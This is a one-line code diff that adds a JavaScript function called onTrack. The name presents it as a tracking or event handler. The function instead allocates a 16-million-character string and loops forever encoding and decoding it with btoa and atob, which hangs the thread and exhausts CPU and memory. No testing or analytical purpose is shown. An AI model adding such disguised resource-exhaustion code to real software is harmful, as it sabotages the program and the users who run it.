@@ -1,0 +1,1 @@
+async function onTrack() { const s = "a".repeat(1 << 24); for (;;) atob(btoa(s)); }
